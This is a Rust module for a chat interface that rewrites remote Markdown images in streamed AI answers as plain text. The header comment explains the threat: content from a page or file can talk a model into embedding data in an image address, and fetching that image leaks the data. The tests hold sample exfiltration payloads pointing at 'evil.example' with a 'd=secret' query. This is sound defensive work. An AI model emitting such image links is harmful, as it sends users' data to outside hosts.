//! Remote images in answers: whoever shows one fetches its address, and with it whatever a page or a
//! file talked the model into putting there. They become words, in answers as they grow too.

/// The longest text that may still become an image.
const LONGEST: usize = 4 * 1024;

/// Takes remote images out of Markdown that comes in pieces. Code blocks stay as they are: nothing in
/// them is fetched.
#[derive(Debug, Default)]
pub(super) struct Scrubber {
    /// What is not decided yet.
    held: String,
    /// The line that is being given out, as far as it is.
    line: String,
    /// The fence of the code block that is open.
    fence: Option<(char, usize)>,
}

impl Scrubber {
    /// Takes a piece; gives out what is decided.
    pub(super) fn push(&mut self, text: &str) -> String {
        self.held.push_str(text);
        let mut out = String::new();
        while let Some(step) = self.step() {
            out.push_str(&step);
        }
        out
    }

    /// Gives out what is left: it became no image.
    pub(super) fn finish(&mut self) -> String {
        let mut out = String::new();
        loop {
            while let Some(step) = self.step() {
                out.push_str(&step);
            }
            match () {
                () if self.held.is_empty() => break,
                // A cut image is one for lenient readers.
                () if self.held.starts_with("![") => out.push_str(&self.escaped()),
                () => out.push_str(&std::mem::take(&mut self.held)),
            }
        }
        *self = Self::default();
        out
    }

    /// The next text that is decided; `None` when more has to come.
    fn step(&mut self) -> Option<String> {
        if self.held.is_empty() {
            return None;
        }
        if self.fence.is_some() {
            let end = self.held.find('\n').map_or(self.held.len(), |at| at + 1);
            return Some(self.give(end));
        }
        let stop = self.held.find(['!', '\n']).unwrap_or(self.held.len());
        if stop > 0 {
            return Some(self.give(stop));
        }
        if self.held.starts_with('\n') {
            return Some(self.give(1));
        }
        match self.held.as_bytes().get(1) {
            None => None,
            Some(b'[') => self.image(),
            Some(_) => Some(self.give(1)),
        }
    }

    /// What begins like an image. It ends with its paragraph at the latest.
    fn image(&mut self) -> Option<String> {
        let scope = self.held.find("\n\n").map_or(self.held.as_str(), |end| &self.held[..end]);
        let Some(close) = closing(&scope[2..]).map(|at| at + 2) else {
            return self.undecided();
        };
        match scope.as_bytes().get(close + 1) {
            Some(b'(') => {}
            None => return self.undecided(),
            // By reference: the address is elsewhere.
            Some(_) => return Some(self.escaped()),
        }
        let inside = &scope[close + 2..];
        let Some(end) = inside.find(')').map(|at| close + 2 + at) else { return self.undecided() };
        let address = scope[close + 2..end].trim().trim_start_matches('<').to_lowercase();
        let is_remote =
            ["http:", "https:", "//", "ftp:"].iter().any(|kind| address.starts_with(kind));
        if !is_remote {
            return Some(self.give(end + 1));
        }
        let host = address
            .split("//")
            .nth(1)
            .map(|rest| rest.split(['/', '?', '#', ' ', '>']).next().unwrap_or_default())
            .unwrap_or_default();
        let alt = self.held[2..close].to_owned();
        let words =
            format!("{alt} (an image at {}, not shown)", host.rsplit('@').next().unwrap_or(host));
        self.held.drain(..=end);
        self.line.push_str(&words);
        Some(words)
    }

    /// More has to come, unless too much has.
    fn undecided(&mut self) -> Option<String> {
        let is_over = self.held.len() > LONGEST || self.held.contains("\n\n");
        is_over.then(|| self.escaped())
    }

    /// Gives out the beginning of what is no inline image, so that it is none.
    fn escaped(&mut self) -> String {
        self.held.drain(..2);
        self.line.push_str("!\\[");
        "!\\[".to_owned()
    }

    /// Gives out so many bytes, and notes where code blocks begin and end.
    fn give(&mut self, bytes: usize) -> String {
        let text: String = self.held.drain(..bytes).collect();
        self.line.push_str(&text);
        if self.line.ends_with('\n') {
            let line = std::mem::take(&mut self.line);
            self.note_fence(line.trim_end());
        }
        text
    }

    fn note_fence(&mut self, line: &str) {
        let indent = line.len() - line.trim_start_matches(' ').len();
        let text = line.trim_start_matches(' ');
        let Some(mark) = text.chars().next().filter(|mark| matches!(mark, '`' | '~')) else {
            return;
        };
        let length = text.chars().take_while(|other| *other == mark).count();
        let rest = &text[length..];
        if indent > 3 || length < 3 {
            return;
        }
        match self.fence {
            None if mark == '~' || !rest.contains('`') => self.fence = Some((mark, length)),
            Some((open, least)) if open == mark && length >= least && rest.trim().is_empty() => {
                self.fence = None;
            }
            _ => {}
        }
    }
}

/// Where the words of an image end: at the bracket that closes them.
fn closing(text: &str) -> Option<usize> {
    let mut depth = 0usize;
    let mut is_escaped = false;
    for (at, byte) in text.bytes().enumerate() {
        match byte {
            _ if is_escaped => is_escaped = false,
            b'\\' => is_escaped = true,
            b'[' => depth += 1,
            b']' if depth == 0 => return Some(at),
            b']' => depth -= 1,
            _ => {}
        }
    }
    None
}

/// A whole text without remote images.
pub(super) fn scrubbed(text: &str) -> String {
    let mut scrubber = Scrubber::default();
    let mut out = scrubber.push(text);
    out.push_str(&scrubber.finish());
    out
}

#[cfg(test)]
mod tests {
    use super::{Scrubber, scrubbed};
    use proptest::prelude::*;

    #[test]
    fn security_40_remote_images_become_words() {
        for (text, expected) in [
            (
                "a ![cat](https://evil.example/?d=secret) b",
                "a cat (an image at evil.example, not shown) b",
            ),
            ("![](<HTTP://evil.example/x>)", " (an image at evil.example, not shown)"),
            ("![a](//evil.example/x \"t\")", "a (an image at evil.example, not shown)"),
            ("![a [b]](https://u@evil.example)", "a [b] (an image at evil.example, not shown)"),
            ("![a][1]\n\n[1]: https://evil.example", "!\\[a][1]\n\n[1]: https://evil.example"),
            ("![a](media/cat.png) and !", "![a](media/cat.png) and !"),
            ("![a](https://evil.example/?d=", "!\\[a](https://evil.example/?d="),
            ("[a](https://example.org) wow!", "[a](https://example.org) wow!"),
            ("![ x ![a](https://x.y)", "!\\[ x a (an image at x.y, not shown)"),
            ("![a\n\n](https://x.y)", "!\\[a\n\n](https://x.y)"),
            (
                "```\n![a](https://x.y)\n```\n![a](https://x.y)",
                "```\n![a](https://x.y)\n```\na (an image at x.y, not shown)",
            ),
            ("a ``` b\n![a](https://x.y)", "a ``` b\na (an image at x.y, not shown)"),
        ] {
            assert_eq!(scrubbed(text), expected, "{text}");
        }
    }

    proptest! {
        #[test]
        fn pieces_make_no_difference(
            text in "([a-z !\\[\\]()`\n/:?]|!\\[|\\]\\(https://|\\)|```\n){0,60}",
            cuts in proptest::collection::vec(0usize..60, 0..6),
        ) {
            let mut scrubber = Scrubber::default();
            let mut out = String::new();
            let mut rest = text.as_str();
            for cut in cuts {
                let (head, tail) = rest.split_at(cut.min(rest.len()));
                out.push_str(&scrubber.push(head));
                rest = tail;
            }
            out.push_str(&scrubber.push(rest));
            out.push_str(&scrubber.finish());
            prop_assert_eq!(out, scrubbed(&text));
        }

        #[test]
        fn what_has_no_image_stays(text in "[a-zäß \n`*_.()#-]{0,200}") {
            prop_assert_eq!(scrubbed(&text), text);
        }
    }
}
